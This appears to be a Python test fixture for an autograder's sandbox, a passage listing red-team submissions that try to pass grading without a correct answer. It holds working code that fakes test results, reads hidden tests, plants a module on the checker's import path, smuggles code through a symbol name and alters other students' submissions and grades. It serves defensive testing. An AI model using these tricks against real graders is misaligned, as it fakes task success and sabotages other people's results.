"""The red team's catalogue: submissions that try to score what their code does not earn.

Each `Attack` is one student's submission. ``honest`` is what the same submission scores
without the trick (its answer is wrong or missing, so usually 0; a damaged file with a right
answer keeps full marks). The trick's code fills the answer cell (the tiny course's ``square``
cell, or one answer cell of a real course notebook); ``damage`` edits the submitted notebook's
JSON afterwards, the way a student with a text editor would.

Attack code may name the grading run's own places, which the test fills in:
``@COURSE@`` (the course folder, absolute), ``@SPY@`` (a folder where an attack leaves
evidence for the test to find), ``@PORT@`` (a TCP port the test listens on, on 127.0.0.1),
``@PLANT_ROOT@`` (the only folder an attack may plant Python modules in: the grader's working
folder during the run lies under it). Every attack falls back to its honest content when the
trick is blocked, so a sandbox turns it into a plain wrong answer.

``unsandboxed`` says why an attack wins while the grader runs student code without a sandbox
(the student's kernel is an ordinary process of the grader's user): those tests are expected
to fail until the sandbox contains kernels.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Callable, Optional

TINY_RIGHT = "def square(x):\n    return x * x"
TINY_WRONG = "def square(x):\n    return x + x"  # 6 for 3, -4 for -2: fails every test
TINY_POINTS = 3.0


@dataclass(frozen=True)
class Attack:
    student: str
    trick: str  # what it tries, in one line
    honest: float  # the score of the same submission without the trick
    answer: str = ""  # tiny course: the answer cell
    answers: tuple = ()  # real course: (grade_id, source) pairs on top of the untouched release
    assignment: str = "tiny"
    damage: Optional[Callable[[dict], object]] = None  # edits the notebook JSON (may return new text)
    unsandboxed: str = ""  # why it wins while student code runs unsandboxed ("" if it never should)


def fill(source: str, places: dict[str, str]) -> str:
    for key, value in places.items():
        source = source.replace(f"@{key}@", str(value))
    return source


# ------------------------------------------------------------------ metadata damage


def _tests(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")
            and c["cell_type"] == "code"]


def _fake_passing_outputs(nb: dict) -> None:
    """Saved outputs that claim both visible tests ran and passed (the code is wrong)."""
    count = 1
    for cell in nb["cells"]:
        if cell["cell_type"] != "code":
            continue
        cell["execution_count"] = count
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✔ passed\n"}]
        count += 1


def _flip_test_flags(nb: dict) -> None:
    three, negative, hidden = _tests(nb)
    three["metadata"]["nbgrader"]["grade"] = False
    negative["metadata"]["nbgrader"].update(solution=True, grade=False, locked=False)
    hidden["metadata"]["nbgrader"].update(locked=False, points=0)


def _delete_tests(nb: dict) -> None:
    doomed = {id(c) for c in _tests(nb)}
    nb["cells"] = [c for c in nb["cells"] if id(c) not in doomed]


def _duplicate_cells(nb: dict) -> None:
    """Copies of every test cell (same grade_id, source ``pass``) placed before the answer, and a
    second copy of the answer cell."""
    answer_at = next(i for i, c in enumerate(nb["cells"])
                     if c.get("metadata", {}).get("nbgrader", {}).get("solution"))
    blanks = []
    for cell in _tests(nb):
        blank = copy.deepcopy(cell)
        blank["id"] = f"copy-{len(blanks)}"
        blank["source"] = "pass"
        blanks.append(blank)
    answer = copy.deepcopy(nb["cells"][answer_at])
    answer["id"] = "answer-copy"
    nb["cells"][answer_at:answer_at] = blanks + [answer]


def _rename_tests(nb: dict) -> None:
    for cell in _tests(nb):
        cell["metadata"]["nbgrader"]["grade_id"] += "_mine"
        cell["source"] = "pass"


def _blank_tests(nb: dict) -> None:
    for cell in _tests(nb):
        cell["source"] = "pass"


def _inflate_points(nb: dict) -> None:
    for cell in _tests(nb):
        cell["metadata"]["nbgrader"]["points"] = 100


def _add_bonus_cell(nb: dict) -> None:
    bonus = copy.deepcopy(_tests(nb)[0])
    bonus["id"] = "bonus-cell"
    bonus["metadata"]["nbgrader"].update(grade_id="bonus", points=1000)
    bonus["source"] = "pass"
    nb["cells"].append(bonus)


def _bogus_kernelspec(nb: dict) -> None:
    nb["metadata"]["kernelspec"] = {"name": "no-such-kernel", "display_name": "Nope", "language": "cobol"}
    nb["metadata"]["language_info"] = {"name": "cobol"}


def _as_nbformat_3(nb: dict) -> str:
    import nbformat

    return nbformat.writes(nbformat.convert(nbformat.reads(json.dumps(nb), as_version=4), 3), version=3)


# ------------------------------------------------------------------ the tiny course: kernel tricks

_FRAME_READS_TEST = '''import linecache, re, sys

def square(x):
    """Answer with the number the calling line asserts (the test's own source)."""
    caller = sys._getframe(1)
    line = linecache.getline(caller.f_code.co_filename, caller.f_lineno)
    asserted = re.search(r"==\\s*(-?\\d+)", line)
    return int(asserted.group(1)) if asserted else x + x'''

_RUN_CELL_REPLACED = '''_ip = get_ipython()
_real_run_cell, _real_run_cell_async = _ip.run_cell, _ip.run_cell_async

def _blank(raw_cell):
    return "pass" if "assert" in raw_cell else raw_cell

_ip.run_cell = lambda raw_cell, *args, **kwargs: _real_run_cell(_blank(raw_cell), *args, **kwargs)

async def _run_cell_async(raw_cell, *args, **kwargs):
    return await _real_run_cell_async(_blank(raw_cell), *args, **kwargs)

_ip.run_cell_async = _run_cell_async
''' + TINY_WRONG

_STRIP_ASSERTS = '''import ast

class _StripAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(_StripAsserts())
''' + TINY_WRONG

_READ_SOLUTION = '''import json
''' + TINY_WRONG + '''
try:
    with open("@COURSE@/solutions/tiny/tiny.ipynb") as _handle:
        for _cell in json.load(_handle)["cells"]:
            if _cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]))
except OSError as _error:
    print("blocked:", _error)'''

_READ_GRADEBOOK = '''import re, sqlite3
_table = {}
try:
    _db = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
    for (_source,) in _db.execute("SELECT source FROM source_cell"):
        for _arg, _value in re.findall(r"square\\((-?\\d+)\\) == (-?\\d+)", _source or ""):
            _table[int(_arg)] = int(_value)
    _db.close()
except sqlite3.Error as _error:
    print("blocked:", _error)

def square(x):
    return _table.get(x, x + x)'''

# The checker's task file (its test cells, hidden tests included) and its result file lie in a
# folder of the shared temporary folder while the student's functions are being called.
_MY_CHECKER = '''import glob, json, os, re, tempfile
_home = os.path.realpath(os.getcwd())

def _my_checker():
    """(folder, task) of the trusted checker grading this very kernel, if it can be found."""
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "checker-*", "task.json")):
        try:
            with open(path) as handle:
                task = json.load(handle)
        except (OSError, ValueError):
            continue
        if os.path.dirname(os.path.realpath(task.get("socket", ""))) == _home:
            return os.path.dirname(path), task
    return None, None
'''

_PEEK_CHECKER = _MY_CHECKER + '''
def square(x):
    folder, task = _my_checker()
    for cell in (task or {}).get("cells", []):
        for arg, value in re.findall(r"square\\((-?\\d+)\\) == (-?\\d+)", cell["source"]):
            if int(arg) == x:
                return int(value)
    return x + x'''

_FORGE_VERDICTS = _MY_CHECKER + '''
def square(x):
    folder, task = _my_checker()
    if task:
        verdicts = {c["grade_id"]: {"passed": True, "outputs": []} for c in task["cells"] if c["kind"] == "test"}
        forged = os.path.join(folder, "result.json")
        with open(forged + ".forged", "w") as handle:
            json.dump({"verdicts": verdicts}, handle)
        os.replace(forged + ".forged", forged)
        import time
        time.sleep(1.0)  # keep the real checker busy while the grader picks up the forged result
    return x + x'''

PROBE_FACTS = '''import json, os, resource
_facts = {"uid": os.getuid(), "sees_course": os.path.exists("@COURSE@/gradebook.db"),
          "processes": sum(1 for p in os.listdir("/proc") if p.isdigit()),
          "address_space": resource.getrlimit(resource.RLIMIT_AS)[0]}
print("CONTAINMENT " + json.dumps(_facts))'''

_MEMORY_BOMB = TINY_RIGHT + '''

import resource
_limit = resource.getrlimit(resource.RLIMIT_AS)[0]
if _limit == resource.RLIM_INFINITY or _limit > 64 << 30:
    print("NO-MEMORY-LIMIT: the 50 GiB allocation was not attempted")  # it would take the machine down
else:
    hog = bytearray(50 << 30)'''

_SIGINT_LOOP = '''import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass'''

_LOOP_IN_CHECK = '''def square(x):
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass'''

_NETWORK = '''import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as _link:
        _link.sendall(b"answers please")
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

# A student-side server speaking the grader's protocol, answering every call with a forged reply.
_FORGED_SERVER = '''import json, os, socket
import autograde.trusted.student_server as _server

_REPLIES = @REPLIES@

def _serve(path, timeout=600.0):
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(path)
    os.chmod(path, 0o666)
    listener.listen(1)
    connection, _ = listener.accept()
    stream = connection.makefile("rw", encoding="utf-8")
    calls = 0
    while True:
        line = stream.readline()
        if not line:
            break
        request = json.loads(line)
        if request.get("op") == "exit":
            break
        if request.get("op") == "describe":
            reply = {"callable": True}
        else:
            reply = _REPLIES[calls % len(_REPLIES)]
            calls += 1
        stream.write(json.dumps(reply) + "\\n")
        stream.flush()

_server.serve = _serve
''' + TINY_WRONG


def _forged(replies: list) -> str:
    return _FORGED_SERVER.replace("@REPLIES@", json.dumps(replies))


_CODE_IN_SYMPY = [
    {"value": {"__sympy__": "__import__('pathlib').Path('@SPY@/wire-pwned').write_text('x')"}, "args_after": []},
    {"value": {"__sympy__": "Function('pathlib.Path')(Symbol('x'))"}, "args_after": []},
    {"value": {"__sympy__": "Symbol('x').__class__.__mro__"}, "args_after": []},
]
_ODD_TYPES = [
    {"value": {"__ndarray__": {"dtype": "object", "shape": [1], "data": [9]}}, "args_after": []},
    {"value": {"__opaque__": "int", "repr": "4"}, "args_after": []},
    {"value": {"__int__": "1" + "0" * 100000}, "args_after": []},
]
_BAD_PROTOCOL = [
    {"op": "callback", "id": 123456, "args": [], "kwargs": {}},
    {"raised": ["AssertionError", "fine"]},
    {"value": {"__callback__": 0}, "args_after": []},
]

# The trusted checker (unsandboxed) connects to <scratch>/.grader-0.sock, a path in a folder the
# student owns: a symbolic link there points the checker at any Unix socket of the host.
_SYMLINKED_SOCKET = '''import os
import autograde.trusted.student_server as _server

def _serve(path, timeout=600.0):
    os.symlink("@SPY@/host.sock", path)  # resolved by whoever connects, outside any sandbox

_server.serve = _serve
''' + TINY_WRONG

_DISK_FILLER = '''import os
_written = 0
try:
    for _file in range(16):  # 1 GiB of real disk blocks, in files of 64 MiB (the largest a kernel may write)
        _fd = os.open(f"filler-{_file}.bin", os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            os.posix_fallocate(_fd, 0, 64 << 20)
            _written += 64 << 20
        finally:
            os.close(_fd)
except OSError as _error:
    print("stopped:", _error)
print(f"WROTE {_written}")
''' + TINY_WRONG

TINY_KERNEL_TRICKS = [
    Attack("lying_eq_object", "square returns an object whose __eq__ is always True", 0,
           "class AlwaysEqual:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n\n"
           "def square(x):\n    return AlwaysEqual()"),
    Attack("lying_int_subclass", "square returns an int subclass (the wrong value) whose __eq__ is always True", 0,
           "class Liar(int):\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n"
           "        return False\n    __hash__ = int.__hash__\n\ndef square(x):\n    return Liar(x + x)"),
    Attack("frame_reads_test_source", "square reads the asserted number from the calling test line", 0,
           _FRAME_READS_TEST),
    Attack("showtraceback_noop", "get_ipython().showtraceback replaced by a no-op: failures show no error", 0,
           "get_ipython().showtraceback = lambda *args, **kwargs: None\n" + TINY_WRONG),
    Attack("custom_exc_swallows_all", "set_custom_exc((BaseException,), ...) swallows every exception", 0,
           "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)\n"
           + TINY_WRONG),
    Attack("run_cell_replaced", "run_cell/run_cell_async replaced: later cells with an assert run `pass`", 0,
           _RUN_CELL_REPLACED),
    Attack("input_transformer_blanks_tests", "an input transformer turns every cell with an assert into `pass`",
           0, "get_ipython().input_transformers_post.append(\n    lambda lines: ['pass\\n'] if any('assert' in l "
              "for l in lines) else lines)\n" + TINY_WRONG),
    Attack("ast_transformer_strips_asserts", "an AST transformer deletes every assert statement", 0,
           _STRIP_ASSERTS),
    Attack("interactive_tb_patched", "InteractiveTB.structured_traceback returns nothing", 0,
           "get_ipython().InteractiveTB.structured_traceback = lambda *args, **kwargs: []\n" + TINY_WRONG),
    Attack("excepthook_silenced", "sys.excepthook replaced by a no-op", 0,
           "import sys\nsys.excepthook = lambda *args: None\n" + TINY_WRONG),
    Attack("reads_solution_file", "reads solutions/tiny/tiny.ipynb by absolute path and execs the answer", 0,
           _READ_SOLUTION, unsandboxed="the kernel can read every file of the course folder"),
    Attack("reads_gradebook", "sqlite3-reads gradebook.db: the hidden test's expected value", 0,
           _READ_GRADEBOOK, unsandboxed="the kernel can read the gradebook, hidden tests included"),
    Attack("peeks_checker_task", "square reads the trusted checker's task file (hidden tests) while it is "
           "being called", 0, _PEEK_CHECKER,
           unsandboxed="the checker's task file lies in the shared temporary folder, readable by the kernel"),
    Attack("forges_checker_verdicts", "square writes the trusted checker's result file: every test passed", 0,
           _FORGE_VERDICTS,
           unsandboxed="the checker's result file lies in the shared temporary folder, writable by the kernel; "
                       "the grader takes the first result.json it sees"),
    Attack("fake_saved_outputs", "saved outputs show the visible tests ran and passed; the code is wrong", 0,
           TINY_WRONG, damage=_fake_passing_outputs),
    Attack("test_flags_flipped", "nbgrader flags of the test cells edited (grade off, solution on, 0 points)", 0,
           TINY_WRONG, damage=_flip_test_flags),
    Attack("test_cells_deleted", "every test cell deleted from the notebook", 0, TINY_WRONG,
           damage=_delete_tests),
    Attack("cells_duplicated", "test cells duplicated as `pass` copies (same grade_id) before a second answer "
           "cell", 0, TINY_WRONG, damage=_duplicate_cells),
    Attack("test_grade_ids_renamed", "test cells renamed (grade_id + '_mine') and blanked", 0, TINY_WRONG,
           damage=_rename_tests),
    Attack("test_sources_blanked", "the locked test cells' source replaced by `pass`", 0, TINY_WRONG,
           damage=_blank_tests),
    Attack("points_inflated", "right answer; the test cells claim 100 points each", TINY_POINTS,
           TINY_RIGHT, damage=_inflate_points),
    Attack("bonus_cell_added", "right answer; a new graded cell `pass` worth 1000 points", TINY_POINTS,
           TINY_RIGHT, damage=_add_bonus_cell),
    Attack("bogus_kernelspec", "right answer; the kernelspec names a kernel that does not exist", TINY_POINTS,
           TINY_RIGHT, damage=_bogus_kernelspec),
    Attack("nbformat_3", "right answer; the notebook saved in nbformat 3", TINY_POINTS, TINY_RIGHT,
           damage=_as_nbformat_3),
    Attack("memory_bomb", "right answer, then a 50 GiB allocation in the same cell", TINY_POINTS, _MEMORY_BOMB),
    Attack("kernel_exits", "os._exit(1) in the answer cell (no answer)", 0, "import os\nos._exit(1)"),
    Attack("kernel_segfaults", "a segfault through ctypes.string_at(0) (no answer)", 0,
           "import ctypes\nctypes.string_at(0)"),
    Attack("loop_ignoring_sigint", "an endless loop that ignores SIGINT (no answer)", 0, _SIGINT_LOOP),
    Attack("exits_when_checked", "square calls os._exit when the checks call it", 0,
           "def square(x):\n    import os\n    os._exit(3)"),
    Attack("loops_when_checked", "square loops forever, ignoring SIGINT, when the checks call it", 0,
           _LOOP_IN_CHECK),
    Attack("network_connect", "connects to a TCP listener on 127.0.0.1 and sends a message", 0, _NETWORK),
    Attack("symlinked_grading_socket", ".grader-0.sock made a symlink to a Unix socket outside the sandbox", 0,
           _SYMLINKED_SOCKET),
    Attack("disk_filler", "allocates 1 GiB of disk in its scratch folder (files of 64 MiB, the largest allowed)", 0,
           _DISK_FILLER),
    Attack("forged_wire_code", "a student-side server answers with srepr text that is Python code", 0,
           _forged(_CODE_IN_SYMPY)),
    Attack("forged_wire_types", "a student-side server answers with an object array, an opaque 'int' and a "
           "100001-digit integer", 0, _forged(_ODD_TYPES)),
    Attack("forged_wire_protocol", "a student-side server answers with an unknown callback, a raised "
           "AssertionError and a callback id as the value", 0, _forged(_BAD_PROTOCOL)),
]

PROBE = "probe"  # an honest student (right answer) whose cell reports how its kernel is contained
PROBE_SOURCE = TINY_RIGHT + "\n\n" + PROBE_FACTS
HONEST_WRONG = "reference_wrong"  # the honest content of most attacks, graded beside them: 0 points

# ------------------------------------------------------------------ the real course (01 and 02)

_WRONG_DF = "def df(x):\n    return x"
_WRONG_SIGMOID = "sigmoid_expr = 1 / (1 + sp.exp(x))"

_NUMPY_COMPARISONS = '''import numpy as np
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
''' + _WRONG_DF

_CHECKS_NOOPS = '''import backprop_course.checks as checks
import backprop_course.checks.numeric as numeric
import backprop_course.checks.symbolic as symbolic

numeric.close = lambda *args, **kwargs: True
symbolic.equivalent = lambda *args, **kwargs: (True, "structure")
checks.check_call = numeric.check_call = lambda *args, **kwargs: None
checks.check_value = numeric.check_value = lambda got, *args, **kwargs: got
''' + _WRONG_DF

_FAKE_CHECKS_MODULE = '''import sys, types
import numpy as np

class _Anything(types.ModuleType):
    """A stand-in for the check library: every check passes."""
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        if name == "call":
            return lambda function, *args, kwargs=None, **options: function(*args, **(kwargs or {}))
        if name == "as_float":
            return lambda value, *args, **kwargs: float(value)
        if name == "as_float_array":
            return lambda value, *args, **kwargs: np.asarray(value, dtype=float)
        return lambda *args, **kwargs: args[0] if args else None

for _name in ("backprop_course.checks", "backprop_course.checks.numeric", "backprop_course.checks.feedback",
              "backprop_course.checks.symbolic", "backprop_course.checks.gradients"):
    sys.modules[_name] = _Anything(_name)
import backprop_course
backprop_course.checks = sys.modules["backprop_course.checks"]
''' + _WRONG_DF

_LYING_FLOAT = '''import numpy as np

class LyingFloat(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __float__(self):
        return 12.0
    def __array__(self, dtype=None, copy=None):
        return np.asarray(12.0)
    __hash__ = float.__hash__

def df(x):
    return LyingFloat(-1.0)'''

_EXPECTED_FROM_CALLER = '''import sys
import numpy as np

def _expected_of_caller():
    frame = sys._getframe(2)
    while frame is not None:
        if frame.f_locals.get("expected") is not None:
            return frame.f_locals["expected"]
        frame = frame.f_back
    return None
'''

_CHAMELEON_FLOAT = _EXPECTED_FROM_CALLER + '''
class Chameleon:
    """A number that is whatever the code asking for it expects."""
    def __float__(self):
        expected = _expected_of_caller()
        return float(np.asarray(expected, dtype=float)) if expected is not None else -1.0
    def __array__(self, dtype=None, copy=None):
        expected = _expected_of_caller()
        return np.asarray(expected if expected is not None else -1.0, dtype=float)

def df(x):
    return Chameleon()'''

_DF_READS_EXPECTED = _EXPECTED_FROM_CALLER + '''
def df(x):
    expected = _expected_of_caller()
    if expected is None:
        return x
    value = np.array(expected, dtype=np.float64)
    return float(value) if value.ndim == 0 else value'''

_LYING_ARRAY = '''import numpy as np

class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool)
    def __sub__(self, other):
        return np.zeros(self.shape)
    def __abs__(self):
        return np.zeros(self.shape)
    def tolist(self):
        return [12.0] * self.size if self.ndim else 12.0

def df(x):
    return np.zeros(np.shape(x)).view(LyingArray)'''

_ARRAY_PROTOCOL = '''import numpy as np

class Zeros:
    def __init__(self, shape):
        self.shape = shape
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)
    def __float__(self):
        return 0.0

def df(x):
    return Zeros(np.shape(x))'''

# The trusted checker is forked from the fork server, whose sys.path[0] is the grader's working
# folder; it imports some modules only when a test first needs them (sympy.lambdify imports
# `fileinput`). A module of that name planted there runs inside the trusted checker.
_SHADOW_IMPORT = '''import os
_plant_root = os.path.realpath("@PLANT_ROOT@")
_me = os.path.realpath(os.getcwd())
_PLANTED = """
import importlib.util as _util, json as _json, os as _os, sys as _sys, sysconfig as _sysconfig
_spec = _util.spec_from_file_location("fileinput", _os.path.join(_sysconfig.get_paths()["stdlib"], "fileinput.py"))
_real = _util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})

def _for_me():
    frame = _sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "task_file" in request:
            with open(request["task_file"]) as handle:
                task = _json.load(handle)
            return _os.path.dirname(_os.path.realpath(task["socket"])) == STUDENT
        frame = frame.f_back
    return False

if _for_me():
    import backprop_course.checks.numeric as _numeric
    _numeric.close = lambda *args, **kwargs: True
"""
try:
    _server_folder = os.path.realpath(os.readlink(f"/proc/{os.getppid()}/cwd"))
    if _server_folder == _plant_root or _server_folder.startswith(_plant_root + os.sep):
        with open(os.path.join(_server_folder, "fileinput.py"), "w") as _handle:
            _handle.write(_PLANTED.replace("STUDENT", repr(_me)))
except OSError as _error:
    print("blocked:", _error)
''' + _WRONG_DF

_SYMPY_PATCHED = '''import sympy as sp
sp.simplify = lambda *args, **kwargs: sp.Integer(0)
sp.Expr.equals = lambda self, other, *args, **kwargs: True
''' + _WRONG_SIGMOID

_EQUIVALENT_PATCHED = '''import backprop_course.checks.symbolic as symbolic
symbolic.equivalent = lambda *args, **kwargs: (True, "structure")
symbolic.numeric_counterexample = lambda *args, **kwargs: None
''' + _WRONG_SIGMOID

_IMPLEMENTED_FUNCTION = '''import numpy as np
from sympy.utilities.lambdify import implemented_function
_sigma = implemented_function("sigma", lambda v: 1 / (1 + np.exp(-float(v))))
sigmoid_expr = _sigma(x)  # numbers come out right, but it is no formula in x'''

_LYING_EXPR = '''class LyingExpr(sp.Expr):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 1
    def equals(self, other, *args, **kwargs):
        return True
    def simplify(self, *args, **kwargs):
        return sp.Integer(0)

sigmoid_expr = LyingExpr(x)'''

_SYMBOL_NAME_CODE = '''_name = "x) or __import__('pathlib').Path('@SPY@/lambdify-pwned').touch() or (x"
sigmoid_expr = sp.Symbol(_name, real=True)'''

# SymPy answers whose evaluation would cost the checker gigabytes or hours: refused before they are
# rebuilt ([expression-too-large]); each costs only its own name's checks.
_FORGED_HUGE_FLOAT = """import autograde.trusted.codec as _codec
_sent = _codec._Encoder.sympy
def _forged(self, value):
    if value == sp.Symbol("forged"):
        return {"__sympy__": "Pow(Add(Integer(1), exp(Mul(Integer(-1), Symbol('x', real=True), "
                             "Float('1e9999999', precision=53)))), Integer(-1))"}
    return _sent(self, value)
_codec._Encoder.sympy = _forged
sigmoid_expr = sp.Symbol("forged")"""
_HUGE_EXPRESSIONS = [
    ("power", "an unevaluated 2**(10**9)", "sigmoid_expr",
     "sigmoid_expr = sp.Pow(sp.Integer(2), sp.Integer(10)**9, evaluate=False)"),
    ("symbol_power", "x**(10**9)", "sigmoid_expr", "sigmoid_expr = x**(10**9)"),
    ("nested_powers", "((10**1000)**1000)**1000, unevaluated", "sigmoid_expr",
     "sigmoid_expr = sp.Pow(sp.Pow(sp.Pow(10, 1000, evaluate=False), 1000, evaluate=False), 1000, evaluate=False)"),
    ("tower", "a tower of six 2s", "sigmoid_expr",
     "_p = sp.Integer(2)\nfor _ in range(5):\n    _p = sp.Pow(2, _p, evaluate=False)\nsigmoid_expr = _p"),
    ("symbol_tower", "x**x**x**x**x", "sigmoid_derivative_expr", "sigmoid_derivative_expr = x**x**x**x**x"),
    ("tuple_entry", "one partial of grad_f_xy times 3**(10**9)", "grad_f_xy",
     "grad_f_xy = (2 * x + y, sp.Mul(sp.Pow(sp.Integer(3), sp.Integer(10)**9, evaluate=False), y, evaluate=False))"),
    ("forged_float", "a replaced encoder sends exp(-1e9999999 x)", "sigmoid_expr", _FORGED_HUGE_FLOAT),
]

REAL_COURSE = [
    Attack("numpy_comparisons_patched", "np.allclose/isclose/array_equal/np.testing replaced by always-true", 0,
           answers=(("df", _NUMPY_COMPARISONS),), assignment="01_gradient_descent"),
    Attack("numpy_all_patched", "np.all replaced by always-true (the check library's close() uses it)", 0,
           answers=(("df", "import numpy as np\nnp.all = lambda *args, **kwargs: True\n" + _WRONG_DF),),
           assignment="01_gradient_descent"),
    Attack("check_library_noops", "check_call/check_value/numeric.close/symbolic.equivalent replaced by no-ops",
           0, answers=(("df", _CHECKS_NOOPS),), assignment="01_gradient_descent"),
    Attack("fake_checks_in_sys_modules", "a fake backprop_course.checks injected into sys.modules", 0,
           answers=(("df", _FAKE_CHECKS_MODULE),), assignment="01_gradient_descent"),
    Attack("lying_float_subclass", "df returns a float subclass (-1.0) whose ==, -, abs, __float__ and "
           "__array__ lie", 0, answers=(("df", _LYING_FLOAT),), assignment="01_gradient_descent"),
    Attack("chameleon_float", "df returns an object whose __float__/__array__ give the caller's `expected`", 0,
           answers=(("df", _CHAMELEON_FLOAT),), assignment="01_gradient_descent"),
    Attack("df_reads_expected", "df returns the `expected` it finds in the calling check's frame", 0,
           answers=(("df", _DF_READS_EXPECTED),), assignment="01_gradient_descent"),
    Attack("lying_ndarray_subclass", "df returns zeros in an ndarray subclass whose ==, -, abs and tolist lie", 0,
           answers=(("df", _LYING_ARRAY),), assignment="01_gradient_descent"),
    Attack("array_protocol_zeros", "df returns an object whose __array__ gives zeros of the right shape", 0,
           answers=(("df", _ARRAY_PROTOCOL),), assignment="01_gradient_descent"),
    Attack("shadows_lazy_import", "plants fileinput.py in the fork server's sys.path[0] (the grader's working "
           "folder); the trusted checker imports it at its first lambdify and stops comparing", 0,
           answers=(("df", _SHADOW_IMPORT),), assignment="01_gradient_descent",
           unsandboxed="the kernel can write the grader's working folder, which is sys.path[0] of the fork "
                       "server and so of every trusted checker"),
    Attack("sympy_simplify_patched", "sympy.simplify returns 0 and sympy.Expr.equals returns True", 0,
           answers=(("sigmoid_expr", _SYMPY_PATCHED),), assignment="02_symbolic_derivatives"),
    Attack("symbolic_equivalent_patched", "backprop_course.checks.symbolic.equivalent always says equal", 0,
           answers=(("sigmoid_expr", _EQUIVALENT_PATCHED),), assignment="02_symbolic_derivatives"),
    Attack("implemented_function", "sigmoid_expr is an undefined function whose numeric value is σ", 0,
           answers=(("sigmoid_expr", _IMPLEMENTED_FUNCTION),), assignment="02_symbolic_derivatives"),
    Attack("lying_sympy_subclass", "sigmoid_expr is an Expr subclass whose ==, equals and simplify lie", 0,
           answers=(("sigmoid_expr", _LYING_EXPR),), assignment="02_symbolic_derivatives"),
    Attack("symbol_name_code", "a Symbol whose name is Python code, for lambdify to paste into source", 0,
           answers=(("sigmoid_expr", _SYMBOL_NAME_CODE),), assignment="02_symbolic_derivatives"),
    *(Attack(f"huge_{name}", f"{trick}: the checker would grow by gigabytes or never finish", 0,
             answers=((grade_id, code),), assignment="02_symbolic_derivatives")
      for name, trick, grade_id, code in _HUGE_EXPRESSIONS),
]

#: The honest content of the real-course attacks: the untouched release with a wrong df / sigmoid_expr.
REAL_REFERENCES = {"01_gradient_descent": ("reference_wrong_df", (("df", _WRONG_DF),)),
                   "02_symbolic_derivatives": ("reference_wrong_sigmoid", (("sigmoid_expr", _WRONG_SIGMOID),))}

#: A right answer in a form the trusted codec may refuse: only the tests of that one name may fail.
ODD_BUT_HONEST = ("odd_form_grad_f_xy", "02_symbolic_derivatives",
                  (("grad_f_xy", "grad_f_xy = (sp.Poly(2*x + y, x, y), sp.Poly(x + 2*y, x, y))"),))

# ------------------------------------------------------------------ reaching outside the scratch folder

OUTSIDE_VICTIMS = {"submission": "z_victim_submission", "grades": "v_victim_grades"}

_OVERWRITE_SUBMISSION = '''import pathlib
try:
    _victim = pathlib.Path("@COURSE@/submitted/z_victim_submission/tiny/tiny.ipynb")
    _victim.write_text(_victim.read_text().replace("x * x", "x + x"))
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

_ZERO_GRADES = '''import os, sqlite3, time
_deadline = time.time() + 2.5
while time.time() < _deadline and not os.path.exists("@COURSE@/autograded/v_victim_grades/tiny/.graded.json"):
    time.sleep(0.05)
try:
    _db = sqlite3.connect("@COURSE@/gradebook.db", timeout=10)
    _db.execute("""UPDATE grade SET auto_score = 0 WHERE notebook_id IN (
        SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id
        WHERE a.student_id = 'v_victim_grades')""")
    _db.commit()
    _db.close()
except sqlite3.Error as _error:
    print("blocked:", _error)
''' + TINY_WRONG

_POISON_SOURCE = '''import json
try:
    with open("@COURSE@/solutions/tiny/tiny.ipynb") as _handle:
        _nb = json.load(_handle)
    for _cell in _nb["cells"]:
        if _cell["metadata"].get("nbgrader", {}).get("grade"):
            _cell["source"] = "pass"
    with open("@COURSE@/solutions/tiny/tiny.ipynb", "w") as _handle:
        json.dump(_nb, _handle)
except OSError as _error:
    print("blocked:", _error)
''' + TINY_WRONG

_PLANT_FILES = '''import pathlib
for _place in ("@COURSE@/autograded/planted.txt", "@COURSE@/feedback/planted.txt", "@COURSE@/planted.txt"):
    try:
        pathlib.Path(_place).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(_place).write_text("a student was here")
    except OSError as _error:
        print("blocked:", _error)
''' + TINY_WRONG

OUTSIDE = [
    Attack("a_overwrites_submission", "rewrites another student's submitted notebook (a later one) to a wrong "
           "answer", 0, _OVERWRITE_SUBMISSION, unsandboxed="the kernel can write the course's submitted/ folder"),
    Attack("zz_zeroes_grades", "sets another student's grades to 0 in gradebook.db after they were saved", 0,
           _ZERO_GRADES, unsandboxed="the kernel can write the gradebook"),
    Attack("a_poisons_source", "rewrites the course's source notebook: every test cell becomes `pass`", 0,
